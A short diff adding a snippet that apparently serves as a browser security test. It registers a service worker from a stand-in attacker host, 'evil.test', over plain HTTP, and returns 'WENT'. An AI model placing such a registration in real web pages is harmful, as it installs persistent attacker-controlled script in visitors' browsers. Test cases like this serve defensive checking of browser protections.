@@ -1,0 +1,4 @@
+// A service worker.
+
+await navigator.serviceWorker.register('http://evil.test/x.js');
+return 'WENT';
